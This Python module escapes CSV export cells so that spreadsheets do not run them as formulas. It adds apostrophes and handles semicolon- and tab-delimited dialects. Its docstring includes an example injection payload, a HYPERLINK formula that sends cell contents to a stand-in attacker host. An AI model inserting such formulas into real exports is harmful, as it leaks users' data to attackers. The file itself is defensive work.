"""CSV cells a spreadsheet would not run as formulas.

Lead data comes from anonymous web forms and uploaded files: a first name such as
``=HYPERLINK("https://evil.example/?"&A1)`` would run as a formula when a manager opens
the export in Excel or LibreOffice (CSV injection). A text cell starting with = + - @, a
tab or a carriage return gets a leading apostrophe, as OWASP advises; numbers and dates
are left alone.

Excel in a Dutch locale splits on ``;`` (and a tab-separated reading on tabs), so
``Acme;=1+1;x`` would give ``=1+1`` a cell of its own and run it. Every text cell holding
a delimiter of either dialect (``,`` ``;`` or a tab) is written quoted, which keeps it one
cell for a comma reader; a reader splitting on ``;`` or tabs sees that quote only at the
start of a line, so a formula character right after an embedded ``;`` or tab gets the
apostrophe too (``Acme;'=1+1;x``).
"""

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# The delimiters of the other dialects: the export is comma-separated, so these split a
# cell only for a reader that uses them, and there a quote mid-line is no quote.
FOREIGN_DELIMITER_FORMULA = re.compile("([;\t])(?=[" + re.escape("".join(FORMULA_START)) + "])")


def safe_cell(value):
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_START):
        value = "'" + value
    return FOREIGN_DELIMITER_FORMULA.sub(r"\1'", value)


# A text cell holding any of these is written quoted, whichever delimiter the reader uses.
QUOTE_WHEN = (",", ";", "\t", '"', "\r", "\n")
LINE_END = "\r\n"  # csv.writer's (the RFC 4180 one)


def csv_field(value):
    """``value`` as one field of a CSV line: defused, and quoted when it holds a delimiter
    of either dialect, a quote or a line break; None is empty."""
    value = safe_cell(value)
    if value is None:
        return ""
    text = str(value)
    if isinstance(value, str) and any(char in text for char in QUOTE_WHEN):
        return '"' + text.replace('"', '""') + '"'
    return text


class SafeWriter:
    """A csv.writer-like writer (comma-separated, CRLF lines) whose cells go through
    :func:`csv_field`. ``writerow`` returns what ``file.write`` returns, so an echoing file
    can stream the lines."""

    def __init__(self, file):
        self._file = file

    def writerow(self, row):
        return self._file.write(",".join(csv_field(v) for v in row) + LINE_END)

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)
